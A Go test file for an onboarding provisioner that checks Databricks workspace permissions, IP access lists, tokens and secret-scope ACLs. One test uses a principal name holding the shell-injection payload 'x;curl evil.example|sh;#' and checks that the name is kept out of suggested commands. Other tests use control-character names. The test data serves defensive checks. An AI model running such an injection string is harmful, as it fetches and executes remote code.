package resources_test

import (
	"bytes"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"groundwork/emulator"
	"groundwork/onboarding"
	"groundwork/provisioner"
	"groundwork/provisioner/databricks"
	"groundwork/provisioner/resources"
	"groundwork/provisioner/steptest"
)

func TestDatabricksCheckSaysWhatIsMissing(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		prepare func(*steptest.World)
		says    string // "": the run succeeds
		log     string
	}{
		"a service principal that may create clusters": {func(*steptest.World) {}, "", `service principal "tecton"`},
		"a person": {
			func(w *steptest.World) {
				w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
					steptest.WorkspaceToken: {Name: steptest.Owner, CanCreateClusters: true},
				}})
			}, "", "Jobs will run as a person",
		},
		"an administrator": {
			func(w *steptest.World) {
				w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
					steptest.WorkspaceToken: {Name: "root", ServicePrincipal: true, Admin: true},
				}})
			}, "", "may create clusters",
		},
		"nobody who may create clusters": {
			func(w *steptest.World) {
				w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
					steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true},
				}})
			}, "Unrestricted cluster creation", "",
		},
		"nobody, but with a cluster policy": { // T35, case 14
			func(w *steptest.World) {
				w.Cloud.AddWorkspace(emulator.Workspace{
					Host: steptest.Workspace, Tokens: map[string]emulator.Principal{steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true}},
					Policies: []emulator.ClusterPolicy{{ID: "30F1", Name: "Small clusters", Users: []string{"tecton"}}},
				})
			}, "", "only under the cluster policies Small clusters",
		},
		"nobody, and a group that can't be read": {
			func(w *steptest.World) {
				w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
					steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true},
				}})
				w.Cloud.AddRule(emulator.Rule{Match: emulator.Match{Host: steptest.Workspace, Path: "/api/2.0/preview/scim/v2/Groups/*"}, Status: 403, Body: []byte(`{"error_code":"PERMISSION_DENIED","message":"Only admins may read groups."}`)})
			}, "", "couldn't be determined whether the token's owner, service principal \"tecton\"",
		},
		"an IP access list": { // T33
			blockedByList, "IP access list blocks the address 127.0.0.1, which we call from. A workspace administrator can add 127.0.0.1 to the list, and the addresses of the vendor's control plane too: your specialist knows them.", "",
		},
		"an IP access list, with the vendor's addresses in the settings": {
			func(w *steptest.World) {
				blockedByList(w)
				w.Spec.Vendor.EgressAddresses, w.Spec.Vendor.ControlPlaneAddresses = "203.0.113.7", "198.51.100.0/24"
			}, "can add these addresses to the list. This service: 127.0.0.1, 203.0.113.7. The vendor's control plane: 198.51.100.0/24. Databricks says", "",
		},
		"an IP access list, with a range that has the address": {
			func(w *steptest.World) {
				blockedByList(w)
				w.Spec.Vendor.EgressAddresses = "127.0.0.0/24"
			}, "can add 127.0.0.0/24 to the list, and the addresses of the vendor's control plane too: your specialist knows them.", "",
		},
		"a runtime that is not offered": {func(w *steptest.World) { w.Spec.Databricks.Runtime = "9.1.x-scala2.12" }, "does not offer the runtime 9.1.x-scala2.12", ""},
		"a token to come":               {func(w *steptest.World) { w.Spec.Databricks.Token = onboarding.SecretLater }, "don't have the workspace's API token yet", ""},
		"a wrong token":                 {func(w *steptest.World) { w.Secret(onboarding.PurposeDatabricksToken, "wrong") }, "does not accept the token", ""},
		"a token that the gateway refuses": {
			func(w *steptest.World) {
				w.Cloud.AddRule(emulator.Rule{Match: emulator.Match{Host: steptest.Workspace}, Status: 401, Body: []byte(`{"error_code":401,"message":"Credential was not sent."}`)})
			}, "does not accept the token", "",
		},
		"an address outside Databricks": {func(w *steptest.World) { w.Spec.Databricks.WorkspaceURL = "https://evil.example" }, "cannot be reached from here", ""},
		"an answer that is not a workspace's": {
			func(w *steptest.World) {
				w.Cloud.AddRule(emulator.Rule{Match: emulator.Match{Host: steptest.Workspace}, Status: 200, HTML: true})
			}, "did not answer like a Databricks workspace", "",
		},
		"a name with control characters": {
			func(w *steptest.World) {
				w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
					steptest.WorkspaceToken: {Name: "tec\x00ton\x1b[2J", ServicePrincipal: true, CanCreateClusters: true},
				}})
			}, "", `service principal "tec�ton�[2J"`,
		},
		"a refusal with control characters": {
			func(w *steptest.World) {
				w.Cloud.AddRule(emulator.Rule{Match: emulator.Match{Host: steptest.Workspace}, Status: 403, Body: []byte(`{"error_code":"DENIED","message":"not \u0000 you\u001b[2J"}`)})
			}, "not � you�[2J", "",
		},
		"a token that was wiped":       {(*steptest.World).HandOver, "", "wiped after the handover"},
		"one that was wiped before it": {func(w *steptest.World) { w.Secret(onboarding.PurposeDatabricksToken, "") }, "was wiped before it was used", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck})
			c.prepare(w)
			run := w.Run()
			task := w.Task(run, "databricks-check")
			if c.says == "" {
				w.Succeeds(run)
				if !logged(task, c.log) {
					t.Errorf("the log does not say %q: %+v", c.log, task.Events)
				}
				return
			}
			if task.State == onboarding.TaskDone || !strings.Contains(task.Message, c.says) {
				t.Errorf("databricks-check is %s: %q, want words with %q", task.State, task.Message, c.says)
			}
			if strings.Contains(task.Message+task.Operator, steptest.WorkspaceToken) {
				t.Error("the token is in the words")
			}
		})
	}
}

// blockedByList gives the workspace an IP access list that refuses every call of ours.
func blockedByList(w *steptest.World) {
	w.Cloud.AddWorkspace(emulator.Workspace{
		Host: steptest.Workspace, AllowIPs: []string{"203.0.113.0/24"},
		Tokens: map[string]emulator.Principal{steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true, CanCreateClusters: true}},
	})
}

func logged(task onboarding.Task, text string) bool {
	for _, e := range task.Events {
		if slices.Contains([]string{"log", "attested", "untested", "warning"}, e.Kind) && strings.Contains(e.Text, text) {
			return true
		}
	}
	return false
}

// T34, case 8.
func TestAWorkspaceWithoutPremiumGetsAScopeThatEverybodyManages(t *testing.T) {
	t.Parallel()
	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope})
	w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Standard: true, Tokens: map[string]emulator.Principal{
		steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true, CanCreateClusters: true},
	}})
	run := w.Succeeds(w.Run())
	if task := w.Task(run, "databricks-secret-scope"); !logged(task, "everyone in it can read and change the secret scope") {
		t.Errorf("the log doesn't say who manages the scope: %+v", task.Events)
	}
}

const otherToken, otherName = "dapi-other", "mia@customer.example"

// premium is a workspace of the Premium tier with two people who may use its API.
func premium(w *steptest.World) {
	w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
		steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true, ApplicationID: "5b1f8e9c-1111-4222-8333-444455556666", CanCreateClusters: true},
		otherToken:              {Name: otherName},
	}})
}

// as is the workspace's API with a token.
func as(w *steptest.World, token string) databricks.Client {
	return databricks.Client{HTTP: http.DefaultClient, URL: w.URL() + "/_/" + steptest.Workspace, Token: onboarding.NewSecret(token)}
}

// cli carries out a command of the Databricks CLI, given what is typed where it asks for a value.
func cli(t *testing.T, w *steptest.World, token, command, typed string) {
	t.Helper()
	words := strings.Fields(command)
	if len(words) < 4 || words[0] != "databricks" || words[1] != "secrets" {
		t.Fatalf("not a command about secrets: %s", command)
	}
	path, body := "", map[string]string{"scope": words[3]}
	switch words[2] {
	case "create-scope":
		path = "scopes/create"
	case "delete-scope":
		path = "scopes/delete"
	case "put-secret":
		path, body["key"], body["string_value"] = "put", words[4], typed
		if len(words) > 5 && words[5] == "--string-value" {
			body["string_value"] = words[6]
		}
	case "put-acl":
		path, body["principal"], body["permission"] = "acls/put", words[4], words[5]
	case "delete-acl":
		path, body["principal"] = "acls/delete", words[4]
	default:
		t.Fatalf("an unknown command: %s", command)
	}
	raw, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, w.URL()+"/_/"+steptest.Workspace+"/api/2.0/secrets/"+path, bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = res.Body.Close() }()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("%s: %s", command, res.Status)
	}
}

// T34.
func TestEverybodyInAPremiumWorkspaceMayReadTheSecretScope(t *testing.T) {
	t.Parallel()
	const task = "databricks-secret-scope-readers"
	w := steptest.New(t, steptest.Spec(), resources.Catalog())
	premium(w)
	scope := w.Spec.SecretScope()
	reads := func() error { _, err := as(w, otherToken).ListSecrets(t.Context(), scope); return err }

	w.Spec.Vendor.NoScopeReaders = true
	if _, planned := w.Plan().Task(task); planned {
		t.Error("the setting doesn't leave the permission out")
	}
	w.Succeeds(w.Run())
	if err := reads(); !databricks.IsStatus(err, http.StatusForbidden) {
		t.Fatalf("without the permission, somebody else reads the scope: %v", err)
	}

	w.Spec.Vendor.NoScopeReaders = false
	line, _ := w.Plan().Task(task)
	if line.Action != onboarding.ActionCreate || !strings.HasSuffix(line.Resource, "scope "+scope+", READ for users") {
		t.Errorf("planned to %s %s", line.Action, line.Resource)
	}
	w.Succeeds(w.Run())
	if err := reads(); err != nil {
		t.Errorf("somebody else may not read the scope: %v", err)
	}
	if err := as(w, otherToken).PutSecret(t.Context(), scope, "API_SERVICE", onboarding.NewSecret("x")); !databricks.IsStatus(err, http.StatusForbidden) {
		t.Errorf("somebody else may change the scope: %v", err)
	}
	if line, _ = w.Plan().Task(task); line.Action != onboarding.ActionNone {
		t.Errorf("planned to %s what is there", line.Action)
	}

	// A verification finds that it was taken away, a run gives it again, and a teardown says that it stays, and how to end it.
	cli(t, w, steptest.WorkspaceToken, "databricks secrets delete-acl "+scope+" users", "")
	if got := w.Task(w.Verify(), task); got.State != onboarding.TaskFailed || !strings.Contains(got.Message, "READ for users is missing") {
		t.Errorf("the verification is %s: %s", got.State, got.Message)
	}
	w.Succeeds(w.Run())
	if err := reads(); err != nil {
		t.Errorf("the run didn't give the permission again: %v", err)
	}
	if line, _ = w.TeardownPlan().Task(task); !strings.Contains(line.Stays, "databricks secrets delete-acl SCOPE users") {
		t.Errorf("the teardown's line is %+v", line)
	}

	// More than was asked for is left alone, and said.
	if err := as(w, steptest.WorkspaceToken).Allow(t.Context(), scope, databricks.Everybody, "MANAGE"); err != nil {
		t.Fatal(err)
	}
	mark := w.Mark()
	if run := w.Succeeds(w.Run()); !logged(w.Task(run, task), "Everyone in the workspace can also change the secret scope "+scope) || len(w.Changes(mark)) > 0 {
		t.Errorf("changed %v; the log is %+v", w.Changes(mark), w.Task(run, task).Events)
	}
}

// T34: a workspace without the Premium tier keeps no list of who may read a scope.
func TestAWorkspaceWithoutPremiumIsGivenNoPermission(t *testing.T) {
	t.Parallel()
	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope, resources.DatabricksSecretScopeReaders})
	w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Standard: true, Tokens: map[string]emulator.Principal{
		steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true, CanCreateClusters: true},
	}})
	mark := w.Mark()
	run := w.Succeeds(w.Run())
	if task := w.Task(run, "databricks-secret-scope-readers"); !logged(task, "keeps no list of who can read "+w.Spec.SecretScope()+": everyone in it can") {
		t.Errorf("the log doesn't say who may read the scope: %+v", task.Events)
	}
	for _, c := range w.Changes(mark) {
		if strings.Contains(c.Path, "/acls/") {
			t.Errorf("%s was called", c.Path)
		}
	}
}

// T34: on the Premium tier, a scope is closed to everybody but its creator, also where the names are the same.
func TestASecretScopeOfSomebodyElseIsToldWithTheCommandThatOpensIt(t *testing.T) {
	t.Parallel()
	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope, resources.DatabricksSecretScopeReaders})
	premium(w)
	scope := w.Spec.SecretScope()
	if _, err := as(w, otherToken).CreateScope(t.Context(), scope); err != nil {
		t.Fatal(err)
	}
	task := w.Task(w.Run(), "databricks-secret-scope")
	if task.State != onboarding.TaskBlocked || task.On != onboarding.PartyCustomer ||
		!strings.Contains(task.Message, "databricks secrets put-acl "+scope+" 5b1f8e9c-1111-4222-8333-444455556666 MANAGE. Databricks says: ") {
		t.Errorf("%s, waiting on %q: %s", task.State, task.On, task.Message)
	}
	if err := as(w, otherToken).Allow(t.Context(), scope, "5b1f8e9c-1111-4222-8333-444455556666", "MANAGE"); err != nil {
		t.Fatal(err)
	}
	w.Succeeds(w.Run())
	if keys, err := as(w, otherToken).ListSecrets(t.Context(), scope); err != nil || len(keys) != 2 {
		t.Errorf("the scope has %v, %v", keys, err)
	}
}

// The workspace says whose token it is. A name that a shell would read as more than a name is in no command.
func TestAUserNameOfTheWorkspaceIsNoCommand(t *testing.T) {
	t.Parallel()
	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope})
	w.Cloud.AddWorkspace(emulator.Workspace{Host: steptest.Workspace, Tokens: map[string]emulator.Principal{
		steptest.WorkspaceToken: {Name: "x;curl evil.example|sh;#", CanCreateClusters: true},
		otherToken:              {Name: otherName},
	}})
	scope := w.Spec.SecretScope()
	if _, err := as(w, otherToken).CreateScope(t.Context(), scope); err != nil {
		t.Fatal(err)
	}
	task := w.Task(w.Run(), "databricks-secret-scope")
	if _, command, _ := strings.Cut(task.Message, "to run: "); task.State != onboarding.TaskBlocked || !strings.HasPrefix(command, "databricks secrets put-acl "+scope+" TOKEN_OWNER MANAGE.") {
		t.Errorf("%s: %s", task.State, task.Message)
	}
}

func TestTheSecretScopeHoldsTheAPIKeyOnlyIfOneWasSupplied(t *testing.T) {
	t.Parallel()
	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope})
	w.Secret(onboarding.PurposeVendorAPIKey, "")
	mark := w.Mark()
	w.Succeeds(w.Run())
	if n := len(w.Changes(mark)); n != puts(w)+1 || puts(w) != 1 {
		t.Errorf("%d changes, %d of them secrets, want the scope and one secret", n, puts(w))
	}
	w.Secret(onboarding.PurposeVendorAPIKey, "sample-api-key")
	line, _ := w.Plan().Task("databricks-secret-scope")
	if line.Action != onboarding.ActionChange || line.Remark() != "write the key TECTON_API_KEY" {
		t.Errorf("planned %s (%s) once the key was supplied", line.Action, line.Remark())
	}
	w.Succeeds(w.Run())
	if puts(w) != 2 {
		t.Errorf("%d secrets written, want 2", puts(w))
	}
}

func TestARepairOfTheSecretScopeSaysWhichSecretToEnterAgain(t *testing.T) {
	t.Parallel()
	w := steptest.New(t, steptest.Spec(), []*provisioner.Step{resources.DatabricksCheck, resources.DatabricksSecretScope})
	w.HandOver()
	run := w.Run()
	w.Succeeds(run)
	if task := w.Task(run, "databricks-secret-scope"); !logged(task, "enter the token again") {
		t.Errorf("the log does not say what to enter: %+v", task.Events)
	}
	w.Secret(onboarding.PurposeDatabricksToken, steptest.WorkspaceToken)
	mark := w.Mark()
	run = w.Run()
	task := w.Task(run, "databricks-secret-scope")
	if task.State != onboarding.TaskBlocked || task.On != onboarding.PartySpecialist || task.ActionText != "Enter the API key for notebooks again" {
		t.Errorf("%s, waiting on %q for %q: %s", task.State, task.On, task.ActionText, task.Message)
	}
	w.Secret(onboarding.PurposeVendorAPIKey, "sample-api-key")
	w.Succeeds(w.Run())
	if puts(w) != 2 {
		t.Errorf("%d secrets written, want 2; changes %v", puts(w), w.Changes(mark))
	}
}

func puts(w *steptest.World) int {
	n := 0
	for _, c := range w.Cloud.Calls() {
		if c.Path == "/api/2.0/secrets/put" && c.Changed {
			n++
		}
	}
	return n
}

// What an earlier version's plan didn't have is not said of its run, although its answers would call for it now.
func TestTheFactsOfAnEarlierPlanNameNothingThatItHadNot(t *testing.T) {
	t.Parallel()
	spec := steptest.Spec()
	spec.Databricks.SecretScope = true
	service := provisioner.NewService(provisioner.Config{Catalog: resources.Catalog()})
	now := onboarding.Plan{Spec: spec, Tasks: service.Outline(spec)}
	then := now
	then.Tasks = slices.DeleteFunc(slices.Clone(now.Tasks), func(t onboarding.PlannedTask) bool { return t.Name == "databricks-secret-scope-readers" })
	says := func(plan onboarding.Plan) bool {
		return slices.ContainsFunc(service.Facts(plan), func(f onboarding.Fact) bool { return f.Key == "compute.secret_scope_readers" })
	}
	if !says(now) || says(then) {
		t.Errorf("of a plan with the task: %v, without: %v", says(now), says(then))
	}
}

// T35: the record says beside a warning who accepted it before the run, and why. A decision about other words counts for
// nothing.
func TestTheRecordSaysWhoAcceptedAWarning(t *testing.T) {
	t.Parallel()
	w := steptest.New(t, steptest.Spec(), resources.Catalog())
	w.Cloud.AddWorkspace(emulator.Workspace{
		Host: steptest.Workspace, Tokens: map[string]emulator.Principal{steptest.WorkspaceToken: {Name: "tecton", ServicePrincipal: true}},
		Policies: []emulator.ClusterPolicy{{ID: "30F1", Name: "Small clusters", Users: []string{"tecton"}}},
	})
	i := slices.IndexFunc(w.Preflight(), func(c onboarding.CheckResult) bool { return c.Name == "task:databricks-check" })
	if i < 0 {
		t.Fatal("no check of the workspace")
	}
	warning := w.Preflight()[i]
	if warning.State != onboarding.CheckWarning || !warning.Decidable() {
		t.Fatalf("before the button, the workspace is %s: %s", warning.State, warning.Found)
	}
	at := w.Clock.Now()
	decision := onboarding.Override{Check: warning.Name, Title: warning.Title, Warning: true, Found: warning.Found, Reason: "We use only small clusters.", By: "sam@vendor.example", At: at}
	other := decision
	other.Found, other.Reason = "The token's owner may create clusters only by the cluster policies Tiny.", "Of another day."
	later := decision
	later.Reason, later.Later = "Once more, while it ran.", true
	w.Decided(other, decision, later)
	var record struct {
		Verified []struct {
			Task     string
			Warnings []string
			Accepted []struct {
				Warning, By, Reason string
				At                  time.Time
				Later               bool
			}
		}
	}
	if err := json.Unmarshal(w.Succeeds(w.Run()).Record, &record); err != nil {
		t.Fatal(err)
	}
	for _, v := range record.Verified {
		switch {
		case v.Task != "databricks-check":
			if len(v.Accepted) > 0 {
				t.Errorf("%s: %+v", v.Task, v.Accepted)
			}
		case len(v.Accepted) != 2 || v.Accepted[0].Later || !v.Accepted[1].Later || v.Accepted[1].Reason != "Once more, while it ran." || len(v.Warnings) != 1 || v.Accepted[0].Warning != v.Warnings[0] || v.Accepted[0].By != "sam@vendor.example" || v.Accepted[0].Reason != "We use only small clusters." || !v.Accepted[0].At.Equal(at):
			t.Errorf("the record says %+v", v)
		}
	}
}
